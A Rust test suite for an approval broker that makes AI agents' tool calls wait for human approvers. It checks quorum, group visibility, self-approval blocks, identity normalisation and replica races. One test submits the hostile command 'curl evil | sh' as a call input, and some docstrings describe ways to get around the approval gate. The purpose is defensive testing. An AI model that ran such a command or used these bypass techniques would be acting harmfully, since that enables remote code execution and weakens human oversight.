//! Who may approve what: an ask rule's approvers (groups from the token file) are the only ones
//! who may decide, see and be told about the calls it matches; a two-person rule counts distinct
//! approvals (each vote an event, kept across restarts) and any denial denies; nobody approves a
//! call they submitted; Explain says who may decide; and on two replicas the last approval
//! racing a denial has one winner.

use approval_broker::config::Config;
use approval_broker::domain::policy::Approvers;
use approval_broker::door::auth::hash_token;
use approval_broker::proto::v1 as pb;
use tonic::metadata::MetadataValue;
use tonic::service::interceptor::InterceptedService;
use tonic::transport::Channel;
use tonic::{Code, Request, Status};

use crate::helpers::*;

/// The agent's token; an approver token with the same identity (`bot`) is `BOT_AS_APPROVER`.
const BOT: &str = "token-of-bot";
const BOT_AS_APPROVER: &str = "token-of-bot-approving";
/// `alice` is in ops, `bob` in ops and sec, `carol` in sec, `dave` in no group.
const ALICE: &str = "token-of-alice";
const BOB: &str = "token-of-bob";
const CAROL: &str = "token-of-carol";
const DAVE: &str = "token-of-dave";
/// An auditor, `eve`.
const EVE: &str = "token-of-eve";
const ROOT: &str = "token-of-root";

fn with_groups(config: &mut Config) {
    config.auth.tokens = Some(format!(
        "agent bot {}\napprover bot {}\napprover alice {} groups=ops\napprover bob {} groups=ops,sec\n\
         approver carol {} groups=sec\napprover dave {}\nauditor eve {}\nadmin root {}",
        hash_token(BOT),
        hash_token(BOT_AS_APPROVER),
        hash_token(ALICE),
        hash_token(BOB),
        hash_token(CAROL),
        hash_token(DAVE),
        hash_token(EVE),
        hash_token(ROOT),
    ));
}

/// With the tokens, and every call no rule names approvers for needing two of them.
fn with_a_default_of_two(config: &mut Config) {
    with_groups(config);
    config.policy.default_approvers = Some(Approvers {
        quorum: 2,
        ..Approvers::default()
    });
}

pub(crate) type Bearer = Box<dyn FnMut(Request<()>) -> Result<Request<()>, Status> + Send + Sync>;

pub(crate) fn bearer(token: &str) -> Bearer {
    let value: MetadataValue<_> = format!("Bearer {token}").parse().expect("header");
    Box::new(move |mut request: Request<()>| {
        request
            .metadata_mut()
            .insert("authorization", value.clone());
        Ok(request)
    })
}

pub(crate) fn approver_as(
    channel: &Channel,
    token: &str,
) -> ApproverServiceClient<InterceptedService<Channel, Bearer>> {
    ApproverServiceClient::with_interceptor(channel.clone(), bearer(token))
}

pub(crate) fn admin_as(
    channel: &Channel,
    token: &str,
) -> AdminServiceClient<InterceptedService<Channel, Bearer>> {
    AdminServiceClient::with_interceptor(channel.clone(), bearer(token))
}

/// The ask rule `two-person`: `deploy` calls need two approvals from ops or sec members.
async fn two_person_rule(app: &TestApp) {
    let mut rule = rule("two-person", "deploy", pb::Effect::Ask, 0, None);
    rule.approvers = Some(pb::Approvers {
        groups: vec!["ops".into(), "sec".into()],
        quorum: 2,
        ..Default::default()
    });
    admin_as(&app.channel, ROOT)
        .create_rule(pb::CreateRuleRequest { rule: Some(rule) })
        .await
        .expect("create rule");
}

/// Submits `calls` in session `s` as the agent `bot`.
async fn submit_as_bot(app: &TestApp, calls: Vec<pb::CallSpec>) -> pb::SubmitResponse {
    AgentServiceClient::with_interceptor(app.channel.clone(), bearer(BOT))
        .submit(pb::SubmitRequest {
            batch: Some(pb::BatchSpec {
                on_deny: pb::OnDeny::Independent as i32,
                ..batch("s", calls)
            }),
        })
        .await
        .expect("submit")
        .into_inner()
}

async fn decide_as(
    app: &TestApp,
    token: &str,
    call_id: &str,
    decision: pb::Decision,
) -> Result<pb::DecideResponse, Status> {
    let mut request = decide_request("s", call_id, decision, "");
    request.agent = "bot".into();
    request.approver = String::new();
    approver_as(&app.channel, token)
        .decide(request)
        .await
        .map(tonic::Response::into_inner)
}

async fn pending_ids_seen_by(app: &TestApp, token: &str) -> Vec<String> {
    approver_as(&app.channel, token)
        .list_pending(pb::ListPendingRequest::default())
        .await
        .expect("list pending")
        .into_inner()
        .calls
        .into_iter()
        .map(|c| c.call_id)
        .collect()
}

/// Every call, read by the admin.
async fn calls_of(app: &TestApp) -> Vec<pb::Call> {
    admin_as(&app.channel, ROOT)
        .list_calls(pb::ListCallsRequest::default())
        .await
        .expect("list calls")
        .into_inner()
        .calls
}

/// A `Subscribe` stream opened with `token`.
async fn subscribe_as(app: &TestApp, token: &str) -> Subscription {
    let stream = approver_as(&app.channel, token)
        .subscribe(pb::SubscribeRequest::default())
        .await
        .expect("subscribe")
        .into_inner();
    Subscription { stream }
}

fn summary(call: &pb::Call) -> String {
    call.approval.as_ref().expect("an approval").summary.clone()
}

async fn an_approver_outside_the_rules_groups_cannot_decide_a_call_they_cannot_know_of(
    app: TestApp,
) {
    two_person_rule(&app).await;
    submit_as_bot(&app, vec![call("d1", "deploy", "{}")]).await;
    for verdict in [pb::Decision::Approve, pb::Decision::Deny] {
        // Word for word what an unknown call answers: nothing says d1 exists.
        let refused = decide_as(&app, DAVE, "d1", verdict).await.unwrap_err();
        let unknown = decide_as(&app, DAVE, "d9", verdict).await.unwrap_err();
        assert_eq!(refused.code(), Code::NotFound, "{}", refused.message());
        assert_eq!(
            refused.message(),
            unknown.message().replace("d9", "d1"),
            "a hidden call reads as an unknown one"
        );
    }
    // An auditor sees it but decides nothing.
    let refused = decide_as(&app, EVE, "d1", pb::Decision::Approve)
        .await
        .unwrap_err();
    assert_eq!(
        refused.code(),
        Code::PermissionDenied,
        "{}",
        refused.message()
    );
    let call = &calls_of(&app).await[0];
    assert_eq!(call.status, CallStatus::Pending as i32);
    assert_eq!(summary(call), "0 of 2 approvals");
}

async fn two_distinct_approvals_approve_a_two_person_call_and_the_first_is_an_event_that_survives_a_restart(
    app: TestApp,
) {
    two_person_rule(&app).await;
    let ack = submit_as_bot(&app, vec![call("d1", "deploy", r#"{"env":"prod"}"#)]).await;
    assert_eq!(ack_status(&ack, 0), CallStatus::Pending);
    let mut watching = subscribe_as(&app, EVE).await;
    let (snapshot, _) = watching.snapshot().await;
    assert_eq!(snapshot.len(), 1);

    let first = decide_as(&app, ALICE, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    assert!(
        first.outcome.is_none(),
        "one approval of two decides nothing"
    );
    assert_eq!(
        summary(first.pending.as_ref().expect("still pending")),
        "1 of 2 approvals"
    );
    match watching.next().await.event {
        Some(pb::approver_event::Event::ApprovalRecorded(call)) => {
            assert_eq!(summary(&call), "1 of 2 approvals");
            let votes = &call.approval.as_ref().unwrap().votes;
            assert_eq!(votes.len(), 1);
            assert_eq!(
                (votes[0].approver.as_str(), votes[0].approve),
                ("alice", true)
            );
        }
        other => panic!("expected approval_recorded, got {other:?}"),
    }
    // The same approver again counts once.
    let again = decide_as(&app, ALICE, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    assert!(again.replayed);
    assert_eq!(summary(again.pending.as_ref().unwrap()), "1 of 2 approvals");

    drop(watching);
    let app = app.restart_with(with_groups).await;
    let call = &calls_of(&app).await[0];
    assert_eq!(summary(call), "1 of 2 approvals", "votes are durable");

    let second = decide_as(&app, BOB, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    let outcome = second.outcome.expect("the second approval decides");
    assert_eq!(status_of(&outcome), CallStatus::Approved);
    assert_eq!(outcome.decided_by, "approver:alice,bob");
    assert!(second.pending.is_none());
}

async fn any_single_denial_denies_a_call_that_needs_two_approvals(app: TestApp) {
    two_person_rule(&app).await;
    submit_as_bot(&app, vec![call("d1", "deploy", "{}")]).await;
    decide_as(&app, ALICE, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    let denied = decide_as(&app, CAROL, "d1", pb::Decision::Deny)
        .await
        .unwrap();
    let outcome = denied.outcome.expect("denied");
    assert_eq!(status_of(&outcome), CallStatus::Denied);
    assert_eq!(outcome.decided_by, "approver:carol");
    let late = decide_as(&app, BOB, "d1", pb::Decision::Approve)
        .await
        .unwrap_err();
    assert_eq!(late.code(), Code::FailedPrecondition, "{}", late.message());
    assert!(late.message().contains("DENIED"), "{}", late.message());
}

async fn neither_the_agent_nor_the_human_it_acts_for_can_approve_its_call(app: TestApp) {
    let spec = pb::CallSpec {
        requested_by: "carol".into(),
        ..call("c1", "shell", "{}")
    };
    let ack = submit_as_bot(&app, vec![spec]).await;
    assert_eq!(ack_status(&ack, 0), CallStatus::Pending);
    for token in [CAROL, BOT_AS_APPROVER] {
        let refused = decide_as(&app, token, "c1", pb::Decision::Approve)
            .await
            .unwrap_err();
        assert_eq!(
            refused.code(),
            Code::PermissionDenied,
            "{}",
            refused.message()
        );
        assert!(
            refused.message().contains("self-approval"),
            "{}",
            refused.message()
        );
    }
    let call = &calls_of(&app).await[0];
    assert_eq!(call.requested_by, "carol");
    assert_eq!(call.status, CallStatus::Pending as i32);
    let approved = decide_as(&app, DAVE, "c1", pb::Decision::Approve)
        .await
        .unwrap();
    assert_eq!(approved.outcome.unwrap().decided_by, "approver:dave");
}

async fn approvers_see_only_the_calls_they_may_decide_and_auditors_see_every_call(app: TestApp) {
    two_person_rule(&app).await;
    submit_as_bot(
        &app,
        vec![call("d1", "deploy", "{}"), call("c1", "shell", "{}")],
    )
    .await;
    assert_eq!(pending_ids_seen_by(&app, DAVE).await, ["c1"]);
    assert_eq!(pending_ids_seen_by(&app, CAROL).await, ["d1", "c1"]);
    assert_eq!(pending_ids_seen_by(&app, EVE).await, ["d1", "c1"]);
    assert_eq!(pending_ids_seen_by(&app, ROOT).await, ["d1", "c1"]);

    // Live events too: dave's stream shows the shell call, never the deploy call.
    let mut dave = subscribe_as(&app, DAVE).await;
    let (snapshot, _) = dave.snapshot().await;
    assert_eq!(
        snapshot
            .iter()
            .map(|c| c.call_id.as_str())
            .collect::<Vec<_>>(),
        ["c1"]
    );
    submit_as_bot(
        &app,
        vec![call("d2", "deploy", "{}"), call("c2", "shell", "{}")],
    )
    .await;
    match dave.next().await.event {
        Some(pb::approver_event::Event::Requested(call)) => assert_eq!(call.call_id, "c2"),
        other => panic!("expected c2 requested, got {other:?}"),
    }
}

async fn explain_says_who_may_decide_a_call_and_the_votes_so_far(app: TestApp) {
    two_person_rule(&app).await;
    submit_as_bot(&app, vec![call("d1", "deploy", "{}")]).await;
    decide_as(&app, BOB, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    let mut admin = admin_as(&app.channel, ROOT);
    let explained = admin
        .explain(pb::ExplainRequest {
            call: Some(pb::explain_request::Call::Stored(pb::GetCallRequest {
                agent: "bot".into(),
                session_id: "s".into(),
                call_id: "d1".into(),
            })),
        })
        .await
        .expect("explain")
        .into_inner();
    let approval = explained.approval.expect("who may decide");
    assert_eq!(approval.rule_id, "two-person");
    let approvers = approval.approvers.unwrap();
    assert_eq!(
        (approvers.groups, approvers.quorum),
        (vec!["ops".to_owned(), "sec".to_owned()], 2)
    );
    assert_eq!(approval.approvals, 1);
    assert!(
        explained
            .reason
            .contains("who may decide: members of ops, sec"),
        "{}",
        explained.reason
    );
    assert!(
        explained.reason.contains("1 of 2 approvals"),
        "{}",
        explained.reason
    );
    // Inline: what a call submitted now would need.
    let inline = admin
        .explain(pb::ExplainRequest {
            call: Some(pb::explain_request::Call::Inline(pb::ExplainCall {
                agent: "bot".into(),
                session_id: "s".into(),
                tool: "deploy".into(),
                input_json: "{}".into(),
                ..Default::default()
            })),
        })
        .await
        .expect("explain")
        .into_inner();
    assert_eq!(
        inline
            .approval
            .expect("who may decide")
            .approvers
            .unwrap()
            .quorum,
        2
    );
}

async fn a_pending_call_keeps_the_requirement_it_was_submitted_under(app: TestApp) {
    two_person_rule(&app).await;
    submit_as_bot(&app, vec![call("d1", "deploy", "{}")]).await;
    admin_as(&app.channel, ROOT)
        .delete_rule(pb::DeleteRuleRequest {
            id: "two-person".into(),
        })
        .await
        .expect("delete rule");
    let first = decide_as(&app, ALICE, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    assert!(
        first.outcome.is_none(),
        "still needs two: the rule was fixed on it at submit"
    );
    let refused = decide_as(&app, DAVE, "d1", pb::Decision::Approve)
        .await
        .unwrap_err();
    // Dave is outside the rule's groups, fixed on d1 at submit: d1 stays hidden from him.
    assert_eq!(refused.code(), Code::NotFound, "{refused:?}");
    // A call submitted now needs nobody in particular.
    submit_as_bot(&app, vec![call("d2", "deploy", "{}")]).await;
    let alone = decide_as(&app, DAVE, "d2", pb::Decision::Approve)
        .await
        .unwrap();
    assert_eq!(alone.outcome.unwrap().decided_by, "approver:dave");
}

async fn the_default_requirement_applies_to_calls_no_ask_rule_names_approvers_for(app: TestApp) {
    submit_as_bot(&app, vec![call("c1", "shell", "{}")]).await;
    let first = decide_as(&app, DAVE, "c1", pb::Decision::Approve)
        .await
        .unwrap();
    let pending = first.pending.expect("one of two");
    assert_eq!(pending.approval.as_ref().unwrap().rule_id, "");
    assert_eq!(summary(&pending), "1 of 2 approvals");
    let second = decide_as(&app, CAROL, "c1", pb::Decision::Approve)
        .await
        .unwrap();
    assert_eq!(second.outcome.unwrap().decided_by, "approver:dave,carol");
}

/// Decides `call_id` as `token`, remembering it with `scope` for every input.
async fn decide_remembering(
    app: &TestApp,
    token: &str,
    call_id: &str,
    scope: pb::Scope,
) -> Result<pb::DecideResponse, Status> {
    let mut request = decide_request("s", call_id, pb::Decision::Approve, "");
    request.agent = "bot".into();
    request.approver = String::new();
    request.scope = scope as i32;
    request.matcher = Some(pb::InputMatcher {
        kind: Some(pb::input_matcher::Kind::Any(pb::AnyInput {})),
    });
    approver_as(&app.channel, token)
        .decide(request)
        .await
        .map(tonic::Response::into_inner)
}

fn status_in(calls: &[pb::Call], id: &str) -> CallStatus {
    let call = calls.iter().find(|c| c.call_id == id).expect("listed");
    CallStatus::try_from(call.status).expect("a status")
}

/// The attack on 6981a13: carol, refused on the call she is `requested_by`, approves another call
/// of the same tool remembering it ALWAYS for any input. The grant must not approve her own
/// pending call, nor a later one she requests (whatever case she is written in); it still
/// approves calls nobody requested, and calls other people requested.
async fn a_grant_never_approves_a_call_its_author_requested(app: TestApp) {
    let own = |id: &str, by: &str| pb::CallSpec {
        requested_by: by.into(),
        ..call(id, "shell", &format!(r#"{{"cmd":"{id}"}}"#))
    };
    submit_as_bot(&app, vec![own("mine", "Carol")]).await;
    submit_as_bot(&app, vec![call("other", "shell", "{}")]).await;
    let refused = decide_as(&app, CAROL, "mine", pb::Decision::Approve)
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);

    let made = decide_remembering(&app, CAROL, "other", pb::Scope::Always)
        .await
        .expect("carol may approve a call she did not request");
    let grant = made.grant.expect("a grant");
    assert_eq!(grant.authors, ["carol"]);
    assert!(
        made.decided_by_grant.is_empty(),
        "the grant decided {:?}",
        made.decided_by_grant
    );
    submit_as_bot(
        &app,
        vec![
            own("later", "CAROL"),
            own("fullwidth", "ｃａｒｏｌ"),
            own("dave-asks", "dave"),
            call("nobody-asks", "shell", r#"{"cmd":"ls"}"#),
        ],
    )
    .await;
    let calls = calls_of(&app).await;
    for id in ["mine", "later", "fullwidth"] {
        assert_eq!(status_in(&calls, id), CallStatus::Pending, "{id}");
    }
    for id in ["dave-asks", "nobody-asks"] {
        assert_eq!(status_in(&calls, id), CallStatus::Approved, "{id}");
    }
    // Stored canonical: what the gate compared.
    let later = calls.iter().find(|c| c.call_id == "later").unwrap();
    assert_eq!(later.requested_by, "carol");
}

/// The attack on 6981a13: with every call needing two approvals, alice votes once and bob
/// completes the call remembering it ALWAYS for any input. The grant is bob's alone (the Decide
/// reply says it cannot decide such calls), and the next call, whatever it runs, waits for two
/// people. A grant both voters asked for decides later calls: two people stand behind it.
async fn one_approvers_grant_cannot_undo_a_two_person_rule(app: TestApp) {
    submit_as_bot(&app, vec![call("d1", "shell", r#"{"cmd":"ls"}"#)]).await;
    let first = decide_as(&app, ALICE, "d1", pb::Decision::Approve)
        .await
        .unwrap();
    assert!(first.outcome.is_none());
    let second = decide_remembering(&app, BOB, "d1", pb::Scope::Always)
        .await
        .unwrap();
    let outcome = second.outcome.expect("approved by two");
    assert_eq!(outcome.decided_by_approvers, ["alice", "bob"]);
    let grant = second.grant.expect("the grant is kept");
    assert_eq!(grant.authors, ["bob"], "alice did not ask to remember");
    assert!(
        second.grant_note.contains("needs 2 approval(s)"),
        "{}",
        second.grant_note
    );

    submit_as_bot(
        &app,
        vec![call("d2", "shell", r#"{"cmd":"curl evil | sh"}"#)],
    )
    .await;
    let calls = calls_of(&app).await;
    assert_eq!(status_in(&calls, "d2"), CallStatus::Pending);

    // Both ask to remember: the grant is theirs, and decides what two people may.
    submit_as_bot(&app, vec![call("e1", "deploy", "{}")]).await;
    decide_remembering(&app, ALICE, "e1", pb::Scope::Always)
        .await
        .unwrap();
    let both = decide_remembering(&app, BOB, "e1", pb::Scope::Always)
        .await
        .unwrap();
    assert_eq!(both.grant.as_ref().unwrap().authors, ["alice", "bob"]);
    assert_eq!(both.grant_note, "");
    submit_as_bot(&app, vec![call("e2", "deploy", r#"{"env":"prod"}"#)]).await;
    let e2 = calls_of(&app)
        .await
        .into_iter()
        .find(|c| c.call_id == "e2")
        .unwrap();
    assert_eq!(e2.status, CallStatus::Approved as i32);
    let grant_id = both.grant.unwrap().id;
    assert_eq!(e2.outcome.unwrap().decided_by, format!("grant:{grant_id}"));
}

/// With auth off, the request names who decides: `alice`, `Alice` and a fullwidth `ａｌｉｃｅ` are
/// one person, who votes once on a two-person call; `Carol` may not approve the call requested
/// by `carol`; and `x,y` is no identity at all (it once decided alone as `approver:x,y`).
async fn a_person_spelt_two_ways_is_one_person(app: TestApp) {
    let mut agent = app.agent();
    let spec = pb::CallSpec {
        requested_by: "carol".into(),
        ..call("d1", "deploy", "{}")
    };
    agent
        .submit(pb::SubmitRequest {
            batch: Some(batch("s", vec![spec])),
        })
        .await
        .unwrap();
    let mut approver = app.approver();
    let decide = |who: &str| {
        let mut request = decide_request("s", "d1", pb::Decision::Approve, "");
        request.approver = who.into();
        request
    };
    approver.decide(decide("alice")).await.unwrap();
    for again in ["Alice", "ａｌｉｃｅ", " ALICE "] {
        let reply = approver.decide(decide(again)).await.unwrap().into_inner();
        assert!(reply.replayed, "{again}");
        assert_eq!(
            summary(reply.pending.as_ref().expect("still pending")),
            "1 of 2 approvals",
            "{again}"
        );
    }
    let refused = approver.decide(decide("Carol")).await.unwrap_err();
    assert_eq!(
        refused.code(),
        Code::PermissionDenied,
        "{}",
        refused.message()
    );
    let refused = approver.decide(decide("x,y")).await.unwrap_err();
    assert_eq!(
        refused.code(),
        Code::InvalidArgument,
        "{}",
        refused.message()
    );
    assert!(refused.message().contains("comma"), "{}", refused.message());
    let done = approver.decide(decide("Bob")).await.unwrap().into_inner();
    assert_eq!(
        done.outcome.expect("two people").decided_by_approvers,
        ["alice", "bob"]
    );
}

/// Every call needs two approvals; auth is off.
fn a_default_of_two_without_auth(config: &mut Config) {
    config.policy.default_approvers = Some(Approvers {
        quorum: 2,
        ..Approvers::default()
    });
}

backend_tests!(
    an_approver_outside_the_rules_groups_cannot_decide_a_call_they_cannot_know_of => super::with_groups,
    two_distinct_approvals_approve_a_two_person_call_and_the_first_is_an_event_that_survives_a_restart => super::with_groups,
    any_single_denial_denies_a_call_that_needs_two_approvals => super::with_groups,
    neither_the_agent_nor_the_human_it_acts_for_can_approve_its_call => super::with_groups,
    approvers_see_only_the_calls_they_may_decide_and_auditors_see_every_call => super::with_groups,
    explain_says_who_may_decide_a_call_and_the_votes_so_far => super::with_groups,
    a_pending_call_keeps_the_requirement_it_was_submitted_under => super::with_groups,
    the_default_requirement_applies_to_calls_no_ask_rule_names_approvers_for => super::with_a_default_of_two,
    a_grant_never_approves_a_call_its_author_requested => super::with_groups,
    one_approvers_grant_cannot_undo_a_two_person_rule => super::with_a_default_of_two,
    a_person_spelt_two_ways_is_one_person => super::a_default_of_two_without_auth,
);

/// Two brokers on one Postgres database: with one approval of two recorded, the second approval
/// through one replica and a denial through the other, at once, leave exactly one outcome; the
/// loser is refused naming it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(approvals_test_postgres),
    ignore = "not run: set APPROVALS_TEST_POSTGRES_URL to run the Postgres tests"
)]
async fn the_last_approval_racing_a_denial_on_two_replicas_has_one_winner() {
    let a = spawn_app_on(Backend::postgres(), with_groups).await;
    let b = a.replica(with_groups).await;
    two_person_rule(&a).await;
    const CALLS: usize = 30;
    let calls = (0..CALLS)
        .map(|i| call(&format!("d{i}"), "deploy", "{}"))
        .collect();
    submit_as_bot(&a, calls).await;
    for i in 0..CALLS {
        let id = format!("d{i}");
        decide_as(&a, ALICE, &id, pb::Decision::Approve)
            .await
            .unwrap();
        let (approve, deny) = tokio::join!(
            decide_as(&a, BOB, &id, pb::Decision::Approve),
            decide_as(&b, CAROL, &id, pb::Decision::Deny)
        );
        let (winner, loser) = match (approve, deny) {
            (Ok(w), Err(l)) | (Err(l), Ok(w)) => (w, l),
            other => panic!("{id}: exactly one must win, got {other:?}"),
        };
        let standing = winner.outcome.expect("the winner decided");
        assert_eq!(
            loser.code(),
            Code::FailedPrecondition,
            "{}",
            loser.message()
        );
        let name = match status_of(&standing) {
            CallStatus::Approved => {
                assert_eq!(standing.decided_by, "approver:alice,bob");
                "APPROVED"
            }
            _ => {
                assert_eq!(standing.decided_by, "approver:carol");
                "DENIED"
            }
        };
        assert!(loser.message().contains(name), "{}", loser.message());
        let stored = calls_of(&b)
            .await
            .into_iter()
            .find(|c| c.call_id == id)
            .expect("stored");
        assert_eq!(stored.outcome.expect("one outcome"), standing);
    }
}
